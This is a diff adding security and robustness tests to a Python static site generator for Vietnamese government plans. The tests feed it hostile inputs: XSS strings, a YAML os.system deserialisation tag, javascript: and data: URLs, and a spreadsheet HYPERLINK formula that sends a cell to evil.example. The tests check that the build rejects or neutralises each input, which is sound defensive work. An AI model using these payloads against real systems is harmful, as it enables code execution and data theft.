@@ -11,12 +11,20 @@ as a subprocess to check exit statuses and the output folder.
 from __future__ import annotations
 
 import codecs
+import csv
+import errno
+import html
 import importlib.util
+import io
 import json
+import os
 import posixpath
+import subprocess
+import sys
 import time
 import tracemalloc
 import unicodedata
+import zipfile
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Callable
@@ -25,10 +33,10 @@ import html5lib
 import pytest
 import yaml
 
-from helpers import (BUILD_PY, MD_A, MD_B, PLAN_A, YAML_A, YAML_B, copy_real_corpus, cp1258, edit, line_of,
+from helpers import (BUILD_PY, MD_A, MD_B, PLAN_A, REPO, YAML_A, YAML_B, copy_real_corpus, cp1258, edit, line_of,
                      run_build, snapshot, write_corpus)
 from sitegen.pipeline import BuildError, build
-from sitegen.write import UnsafePath, write_site
+from sitegen.write import OutputError, UnsafePath, write_site
 
 MB = 1024 * 1024
 
@@ -53,10 +61,11 @@ def _write_big(path: Path, size: int) -> None:
 
 
 def _leftovers(out: Path) -> list[str]:
-    """Staging or previous-site folders a build left beside the output folder (the plan cache,
-    `.site.cache`, is meant to stay: its content is checked by the tests that need it)."""
+    """Staging or previous-site folders or a swap journal a build left beside the output folder (the
+    plan cache, `.site.cache`, and the empty lock file, `.site.lock`, are meant to stay: the cache's
+    content is checked by the tests that need it)."""
     return sorted(p.name for p in out.parent.iterdir()
-                  if p.name.startswith(f".{out.name}.") and p.name != f".{out.name}.cache")
+                  if p.name.startswith(f".{out.name}.") and p.name not in (f".{out.name}.cache", f".{out.name}.lock"))
 
 
 def _cache(out: Path) -> dict[str, bytes]:
@@ -124,6 +133,70 @@ def _python_tag(root: Path) -> None:
     marker = root.parent / "PWNED"
     edit(root / YAML_A, 'note: ""', f'note: !!python/object/apply:os.system ["touch {marker}"]')
 
+
+def _long_plan_id(root: Path) -> None:
+    _rename_plan(root, "q" + "a" * 90, "q" + "a" * 90)
+
+
+def _digits_in_quote(digits: str) -> Callable[[Path], None]:
+    """The first target's quote and the text both write 100 with other digits (full-width, Arabic-Indic)."""
+    def mutate(root: Path) -> None:
+        edit(root / MD_A, "Phấn đấu 100%", f"Phấn đấu {digits}%")
+        edit(root / YAML_A, '"Phấn đấu 100%', f'"Phấn đấu {digits}%')
+    return mutate
+
+
+TITLE_A = "title: Phòng, chống tệ nạn xã hội năm 2020"
+
+# Issue 11's findings (a tester's hostile inputs): each refused with its file, line or field, what and fix.
+REJECTED_11 = [
+    Rejected("province-differs-only-by-case", lambda r: edit(r / MD_B, "province: Quảng Ninh", "province: Quảng ninh"),
+             f"corpus/{MD_B}", "line 3 (field province)",
+             "'Quảng ninh' is written differently from 'Quảng Ninh' (corpus/plans/quang-ninh-2020.md), but both give "
+             "the page provinces/quang-ninh.html", "write the province exactly as 'Quảng Ninh'"),
+    Rejected("province-with-a-zero-width-space",
+             lambda r: edit(r / MD_B, "province: Quảng Ninh", 'province: "Quảng\u200bNinh"'),
+             f"corpus/{MD_B}", "line 3 (field province)", "contains the invisible character U+200B ZERO WIDTH SPACE",
+             "delete it"),
+    Rejected("full-width-digits-in-a-date", lambda r: edit(r / MD_A, 'issued: "2020-03-05"', 'issued: "２０２０-０３-０５"'),
+             f"corpus/{MD_A}", _at(MD_A, "issued:", "issued"), "'２０２０-０３-０５' is not a date",
+             "write YYYY-MM-DD with the digits 0-9 (not full-width or other digits)"),
+    Rejected("value-of-10-to-the-400", lambda r: edit(r / YAML_A, "value: 100\n", "value: 1" + "0" * 400 + "\n"),
+             f"corpus/{YAML_A}", _at(YAML_A, "value: 1000", "targets[0].value"), "is too large",
+             "a target value has at most 15 digits. Check the number against the quote"),
+    Rejected("yaml-1-1-octal-value", lambda r: edit(r / YAML_A, "value: 100\n", "value: 0100\n"),
+             f"corpus/{YAML_A}", _at(YAML_A, "value: 0100"), "0100 starts with 0, so YAML 1.1 reads it as the octal "
+             "number 64", 'write 100, or put it in quotes ("0100") if it is text'),
+    Rejected("yaml-1-1-octal-deadline", lambda r: edit(r / YAML_A, "deadline: 2020\n", "deadline: 010\n"),
+             f"corpus/{YAML_A}", _at(YAML_A, "deadline: 010"), "the octal number 8", "write 10"),
+    Rejected("plan-id-over-the-length-limit", _long_plan_id, f"corpus/plans/q{'a' * 90}.md", "line 2 (field id)",
+             "is 91 characters long; an id may have at most 80", "shorten it"),
+    Rejected("lookup-id-over-the-length-limit",
+             lambda r: edit(r / "themes.yaml", "{id: ma-tuy,", "{id: ma-tuy" + "-x" * 40 + ","),
+             "corpus/themes.yaml", "line 1 (field [0].id)", "is 86 characters long; an id may have at most 80",
+             "shorten it"),
+    Rejected("arabic-indic-digits-in-a-quote", _digits_in_quote("١٠٠"), f"corpus/{YAML_A}",
+             _at(YAML_A, "value: 100", "targets[0].value"), "100 does not appear in its quote",
+             "full-width or Arabic-Indic digits are not read as numbers"),
+    Rejected("full-width-digits-in-a-quote", _digits_in_quote("１００"), f"corpus/{YAML_A}",
+             _at(YAML_A, "value: 100", "targets[0].value"), "100 does not appear in its quote",
+             "must write the number with 0-9"),
+    Rejected("right-to-left-override-in-a-title", lambda r: edit(r / MD_A, TITLE_A, 'title: "Phòng \u202e chống"'),
+             f"corpus/{MD_A}", _at(MD_A, "title:", "title"),
+             "contains the invisible character U+202E RIGHT-TO-LEFT OVERRIDE", "delete it"),
+    Rejected("nul-in-a-title", lambda r: edit(r / MD_A, TITLE_A, 'title: "Phòng \\0 chống"'),
+             f"corpus/{MD_A}", _at(MD_A, "title:", "title"), "contains the invisible character U+0000",
+             "delete it"),
+    Rejected("right-to-left-override-in-the-text",
+             lambda r: edit(r / MD_A, "# KẾ HOẠCH", "# KẾ HOẠCH \u202e"),
+             f"corpus/{MD_A}", _at(MD_A, "# KẾ HOẠCH"), "the text contains the invisible character U+202E",
+             "delete it"),
+    Rejected("changelog-missing", lambda r: (r / "CHANGELOG.md").unlink(), "corpus/CHANGELOG.md", "",
+             "is missing: its first `## ` heading is the data version", "Create it with that heading"),
+    Rejected("changelog-without-a-version",
+             lambda r: (r / "CHANGELOG.md").write_text("# Changelog\n\nNhiều thay đổi.\n", encoding="utf-8"),
+             "corpus/CHANGELOG.md", "", "has no `## ` heading", "e.g. `## 2026.11.1`"),
+]
 
 REJECTED = [
     Rejected("missing-required-field", lambda r: _drop_line(r / MD_A, "title:"),
@@ -245,7 +318,7 @@ REJECTED = [
 ]
 
 
-@pytest.mark.parametrize("case", REJECTED, ids=[c.id for c in REJECTED])
+@pytest.mark.parametrize("case", REJECTED + REJECTED_11, ids=[c.id for c in REJECTED + REJECTED_11])
 def test_a_broken_corpus_is_rejected_with_file_place_problem_and_fix(tmp_path, case):
     root = write_corpus(tmp_path)
     case.mutate(root)
@@ -442,6 +515,17 @@ def test_a_stray_file_in_plans_is_accepted_with_a_warning(tmp_path):
         ("corpus/plans/notes.txt", "is neither a plan text (.md) nor a plan's data (.yaml) and is ignored")]
 
 
+def test_editors_lock_and_swap_files_in_plans_are_ignored(tmp_path):
+    """What editors leave beside an open plan (Emacs's dangling ".#<id>.md" lock link, Vim's swap file)
+    is no plan: a build while a plan is open in an editor (`build.py serve` rebuilds then) succeeds."""
+    root = write_corpus(tmp_path)
+    (root / "plans" / f".#{PLAN_A}.md").symlink_to("editor@host.4242:1700000000")
+    (root / "plans" / f".#{PLAN_A}.yaml").symlink_to("editor@host.4242:1700000000")
+    (root / "plans" / f".{PLAN_A}.md.swp").write_bytes(b"b0VIM 9.0\x00")
+    report = build(root, tmp_path / "site", search=False)
+    assert report.plans == 2 and report.warnings == []
+
+
 def test_an_unknown_front_matter_field_is_accepted_with_a_warning(tmp_path):
     root = write_corpus(tmp_path)
     edit(root / MD_A, "excerpt: false\n", "excerpt: false\nexcerp: true\n")
@@ -455,6 +539,9 @@ def test_an_unknown_front_matter_field_is_accepted_with_a_warning(tmp_path):
 HOSTILE = ('<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) '
            '<a href="javascript:alert(1)">a</a> " onmouseover="alert(1) \' onfocus=\'alert(1) '
            '</script><script>alert(1)</script> <!-- --> ]]> {{ 7*7 }} &lt;b&gt;')
+# Markup plotly would draw (a link that takes over the window, bold, a line break, a template field):
+# added to every label, so that it reaches the charts' legends, axis titles and hover texts.
+CHART_MARKUP = '<a href="https://example.org/" target="_top">đây</a> <b>đậm</b><br>%{y}'
 
 
 def _hostile_corpus(base: Path) -> Path:
@@ -468,7 +555,8 @@ def _hostile_corpus(base: Path) -> Path:
         for e in entries:
             for key in ("vi", "en", "definition_vi", "definition_en", "comparable_when", "comparable_when_en"):
                 if key in e and not (name == "units" and key in ("vi", "en") and e[key] == "%"):
-                    e[key] = f"{e[key]} {HOSTILE}"
+                    # (not in the province table: a plan's province must be written as the table has it)
+                    e[key] = f"{e[key]} {HOSTILE}" + ("" if name == "provinces" else f" {CHART_MARKUP}")
         if name == "agencies":
             entries[0]["aliases"] = [*entries[0]["aliases"], f"Công an {HOSTILE}"]
         path.write_text(yaml.safe_dump(entries, allow_unicode=True), encoding="utf-8")
@@ -502,7 +590,7 @@ def _hostile_corpus(base: Path) -> Path:
     data = yaml.safe_load((root / YAML_A).read_text(encoding="utf-8"))
     quote = f"Phấn đấu 75% xã, phường, thị trấn {HOSTILE} được tuyên truyền"
     data["targets"].append({**data["targets"][0], "id": "t03", "value": 75, "quote": quote, "note": HOSTILE,
-                            "note_en": HOSTILE})
+                            "note_en": HOSTILE, "topics": list(data["targets"][0]["topics"])})
     data["targets"][1]["note"] = HOSTILE
     data["commitments"].append({"id": "c02", "kind": "no_hotspot", "quote": HOSTILE})
     data["tasks"].append({"agency": f"Công an {HOSTILE}", "role": "chủ trì", "quote": f"Công an {HOSTILE} chủ trì"})
@@ -635,3 +723,254 @@ def test_the_build_replaces_a_previous_site(tmp_path):
     edit(root / MD_A, "title: Phòng, chống tệ nạn xã hội năm 2020", "title: Tiêu đề mới")
     assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q"]) == 0
     assert "Tiêu đề mới" in (out / "plans" / f"{PLAN_A}.html").read_text(encoding="utf-8")
+
+
+# ---------------------------------------------------------------- issue 11: the output folder, options, files
+
+
+def test_the_build_refuses_a_folder_with_an_index_and_other_files_it_did_not_build(tmp_path, capsys):
+    root = write_corpus(tmp_path)
+    out = tmp_path / "w"
+    out.mkdir()
+    (out / "index.html").write_bytes(b"x")
+    (out / "thesis.docx").write_bytes(b"y")
+    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q"]) == 2
+    err = capsys.readouterr().err
+    assert "is not a site built here (it has no .build-manifest.json)" in err and "choose another --out" in err.lower()
+    assert snapshot(out) == {"index.html": b"x", "thesis.docx": b"y"}
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["corpus", "w"]  # not even a lock file
+
+
+def test_the_build_refuses_to_delete_a_file_added_to_a_site_it_built(tmp_path, capsys):
+    root = write_corpus(tmp_path)
+    out = tmp_path / "site"
+    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q"]) == 0
+    (out / "plans" / "my-notes.txt").write_bytes(b"precious")
+    before = snapshot(out)
+    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q"]) == 2
+    err = capsys.readouterr().err
+    assert "holds files this program did not build (plans/my-notes.txt)" in err and "Move them out of it" in err
+    assert snapshot(out) == before
+
+
+def test_the_build_refuses_an_output_path_that_is_a_file(tmp_path, capsys):
+    root = write_corpus(tmp_path)
+    target = tmp_path / "f"
+    target.write_bytes(b"a file")
+    for _ in range(2):  # and the next build says the same, instead of failing on a moved file
+        assert _cli().main(["--corpus", str(root), "--out", str(target), "--no-search", "-q"]) == 2
+        assert "is a file, not a folder" in capsys.readouterr().err
+    assert target.read_bytes() == b"a file"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["corpus", "f"]
+
+
+@pytest.mark.parametrize("url, what", [
+    ("javascript:alert('XSS')//", "has the scheme 'javascript:'"),
+    ("data:text/html,<script>alert(1)</script>", "has the scheme 'data:'"),
+    ("//example.org/", "has no scheme (http:// or https://)"),
+    ("ftp://example.org/", "has the scheme 'ftp:'"),
+    ("https://", "names no host"),
+    ("https://example.org/\"><script>", "contains a space, quote, angle bracket"),
+    ("https://user:secret@example.org/", "contains a user name or password"),
+    ("https://example.org/?a=1", "has a query (?) or fragment (#)"),
+], ids=["javascript", "data", "scheme-relative", "ftp", "no-host", "quote", "password", "query"])
+def test_a_base_url_that_is_not_an_absolute_http_url_is_refused(tmp_path, capsys, url, what):
+    root = write_corpus(tmp_path)
+    out = tmp_path / "site"
+    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q", "--base-url", url]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("Build failed: --base-url ") and what in err and "https://example.org/ke-hoach/" in err
+    assert not out.exists()
+    with pytest.raises(ValueError, match="--base-url"):  # the library refuses it too
+        build(root, out, base_url=url, search=False)
+
+
+def test_an_absolute_https_base_url_lands_in_canonical_links_and_the_sitemap(tmp_path):
+    root = write_corpus(tmp_path)
+    build(root, tmp_path / "site", base_url="https://example.org/ke-hoach/", search=False)
+    assert "<loc>https://example.org/ke-hoach/index.html</loc>" in (tmp_path / "site" / "sitemap.xml").read_text()
+
+
+def _without_write_permission() -> list[str]:
+    """A command prefix under which file permissions apply: root ignores them, so as root the build
+    runs without the capabilities that let it (setpriv, util-linux)."""
+    if os.geteuid() != 0:
+        return []
+    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search,-fowner"]
+
+
+def test_a_read_only_site_is_refused_clearly_and_left_as_it_was(tmp_path):
+    root = write_corpus(tmp_path)
+    out = tmp_path / "site"
+    assert run_build(root, out).returncode == 0
+    before = snapshot(out)
+    folders = [out, *sorted(p for p in out.rglob("*") if p.is_dir())]
+    for folder in folders:
+        folder.chmod(0o555)
+    try:
+        result = subprocess.run([*_without_write_permission(), sys.executable, str(BUILD_PY), "--corpus", str(root),
+                                 "--out", str(out), "--no-search"], capture_output=True, text=True, timeout=120)
+    finally:
+        for folder in folders:
+            folder.chmod(0o755)
+    assert result.returncode == 2, result.stderr
+    assert "cannot be replaced: folders of it are not writable (./, " in result.stderr
+    assert "Make it writable (chmod -R u+w) or choose another --out" in result.stderr
+    assert "Traceback" not in result.stderr
+    assert snapshot(out) == before and _leftovers(out) == []
+    assert run_build(root, out).returncode == 0  # once writable again, the next build works
+
+
+def _fail_writing(monkeypatch, name: str, err: int) -> None:
+    """Make the writer's open() fail with `err` for the staged file called `name`."""
+    real = open
+
+    def fake(path, *args, **kw):
+        if Path(path).name == name and args and "w" in args[0]:
+            raise OSError(err, os.strerror(err))
+        return real(path, *args, **kw)
+    monkeypatch.setattr("sitegen.write.open", fake, raising=False)
+
+
+@pytest.mark.parametrize("err, cause, hint", [
+    (errno.ENOSPC, "No space left on device", "the disk is full: free some space"),
+    (errno.EACCES, "Permission denied", "make it writable"),
+], ids=["disk-full", "permission-denied"])
+def test_a_failed_write_names_the_file_and_the_cause_and_keeps_the_previous_site(tmp_path, monkeypatch, err,
+                                                                                  cause, hint):
+    root = write_corpus(tmp_path)
+    out = tmp_path / "site"
+    build(root, out, search=False)
+    before = snapshot(out)
+    edit(root / MD_A, TITLE_A, "title: Tiêu đề mới")  # so that the plan's page is written again
+    _fail_writing(monkeypatch, f"{PLAN_A}.html", err)
+    with pytest.raises(OutputError) as exc:
+        build(root, out, search=False)
+    message = str(exc.value)
+    assert message.startswith("cannot write ") and f"/plans/{PLAN_A}.html: {cause} ({hint}" in message
+    assert snapshot(out) == before and _leftovers(out) == []
+
+
+def test_a_search_index_cut_short_by_a_full_disk_is_reported_as_such(tmp_path, monkeypatch):
+    root = write_corpus(tmp_path)
+    out = tmp_path / "site"
+    build(root, out, search=False)
+    before = snapshot(out)
+
+    def pagefind(cmd, **kw):  # Pagefind exits 0 when the disk fills up, leaving its entry file empty
+        folder = Path(cmd[cmd.index("--site") + 1]) / "pagefind"
+        folder.mkdir()
+        (folder / "pagefind-entry.json").write_bytes(b"")
+        return subprocess.CompletedProcess(cmd, 0, "", "")
+    monkeypatch.setattr("sitegen.pipeline.subprocess.run", pagefind)
+    with pytest.raises(OutputError, match=r"pagefind-entry.json is incomplete \(is the disk full\?"):
+        build(root, out, search=True)
+    assert snapshot(out) == before and _leftovers(out) == []
+
+
+def test_a_failed_second_rename_puts_the_previous_site_back_at_once(tmp_path, monkeypatch):
+    root = write_corpus(tmp_path)
+    out = tmp_path / "site"
+    build(root, out, search=False)
+    before = snapshot(out)
+    real = os.replace
+
+    def replace(src, dst):
+        if ".staging." in str(src) and Path(dst) == out.resolve():
+            raise OSError(errno.EIO, "Input/output error")
+        return real(src, dst)
+    monkeypatch.setattr("sitegen.write.os.replace", replace)
+    with pytest.raises(OutputError, match=r"cannot replace .*site: Input/output error"):
+        build(root, out, search=False)
+    assert snapshot(out) == before and _leftovers(out) == []
+
+
+# ---------------------------------------------------------------- issue 11: special files, editors' leftovers
+
+
+def _build_with_timeout(root: Path, out: Path) -> subprocess.CompletedProcess:
+    """The command line, stopped after 60 s (reading a named pipe would wait for ever)."""
+    return subprocess.run([sys.executable, str(BUILD_PY), "--corpus", str(root), "--out", str(out), "--no-search"],
+                          capture_output=True, text=True, cwd=REPO, timeout=60)
+
+
+@pytest.mark.parametrize("rel", [MD_A, "units.yaml", "CHANGELOG.md"], ids=["plan", "lookup-table", "changelog"])
+def test_a_named_pipe_in_place_of_a_corpus_file_is_refused_without_waiting(tmp_path, rel):
+    root = write_corpus(tmp_path)
+    (root / rel).unlink()
+    os.mkfifo(root / rel)
+    result = _build_with_timeout(root, tmp_path / "site")
+    assert result.returncode == 1
+    assert f"ERROR corpus/{rel}: is a named pipe (FIFO), not a regular file: put the file itself here" in result.stderr
+    assert not (tmp_path / "site").exists()
+
+
+def _citations(*args: str) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "sitegen.citations", *args], capture_output=True, text=True,
+                          cwd=REPO, timeout=60)
+
+
+def test_the_citation_command_refuses_a_named_pipe_and_a_device_without_waiting(tmp_path):
+    os.mkfifo(tmp_path / "pipe.txt")
+    for path, kind in ((tmp_path / "pipe.txt", "a named pipe (FIFO)"), (Path("/dev/zero"), "a device")):
+        result = _citations(str(path))
+        assert result.returncode == 2 and "Traceback" not in result.stderr
+        assert f"error: {path}: is {kind}, not a regular file" in result.stderr
+
+
+def test_the_citation_command_caps_the_size_it_reads(tmp_path):
+    big = tmp_path / "big.txt"
+    _write_big(big, 6 * MB)
+    result = _citations(str(big))
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert "big.txt: is 6.0 MB; a document may be at most 5 MB" in result.stderr
+
+
+EDITOR_LEFTOVERS = {
+    f".#{PLAN_A}.md": None,  # Emacs's lock file: a dangling symbolic link while the plan is open
+    f"#{PLAN_A}.md#": "auto-save",  # Emacs's auto-save
+    f"{PLAN_A}.md~": "backup",  # Emacs's, gedit's, Kate's backup
+    f".{PLAN_A}.yaml.swp": "b0VIM 9.0",  # Vim's swap file
+    "4913": "",  # Vim's test that the folder is writable
+    ".DS_Store": "\0\0\0\1Bud1",
+}
+
+
+def test_files_editors_leave_in_plans_are_ignored_without_a_word(tmp_path, clean_site):
+    root = write_corpus(tmp_path)
+    for name, content in EDITOR_LEFTOVERS.items():
+        if content is None:
+            (root / "plans" / name).symlink_to(f"editor@host.4242:{1700000000}")
+        else:
+            (root / "plans" / name).write_text(content, encoding="utf-8")
+    report = build(root, tmp_path / "site", search=False)
+    assert report.warnings == [] and report.plans == 2
+    assert snapshot(tmp_path / "site") == clean_site
+
+
+# ---------------------------------------------------------------- issue 11: spreadsheet formulas in CSV
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"xem")'
+
+
+def test_a_cell_a_spreadsheet_would_run_is_neutralised_in_csv_and_verbatim_in_json(tmp_path):
+    root = write_corpus(tmp_path)
+    edit(root / MD_A, "signer: Nguyễn Văn A", f"signer: '{FORMULA}'")
+    edit(root / MD_A, "signer_title: PHÓ CHỦ TỊCH", "signer_title: \"@SUM(1+1)\"")
+    build(root, tmp_path / "site", search=False)
+    data = tmp_path / "site" / "data"
+    rows = {r["plan_id"]: r for r in csv.DictReader(io.StringIO((data / "plans.csv").read_text(encoding="utf-8")))}
+    assert rows[PLAN_A]["signer"] == "'" + FORMULA and rows[PLAN_A]["signer_title"] == "'@SUM(1+1)"
+    assert {r["signer"] for r in json.loads((data / "plans.json").read_bytes())} >= {FORMULA}
+    assert json.loads((data / "plans" / f"{PLAN_A}.json").read_bytes())["plan"]["signer"] == FORMULA
+    # The comparator `=` (a lone sign) and the numbers stay as they are.
+    targets = list(csv.DictReader(io.StringIO((data / "targets.csv").read_text(encoding="utf-8"))))
+    assert targets and all(not t["comparator"].startswith("'") and float(t["value"]) > 0 for t in targets)
+    (zip_path,) = data.glob("*.zip")
+    with zipfile.ZipFile(zip_path) as zf:
+        member = next(n for n in zf.namelist() if n.endswith("/plans.csv"))
+        assert zf.read(member) == (data / "plans.csv").read_bytes()
+        readme = zf.read(next(n for n in zf.namelist() if n.endswith("/README.md"))).decode("utf-8")
+    assert "apostrophe (') put in front of it" in readme
+    assert "apostrophe (') put in front of it" in (data / "README.md").read_text(encoding="utf-8")
+    assert "dấu nháy đơn (')" in html.unescape((tmp_path / "site" / "data.html").read_text(encoding="utf-8"))
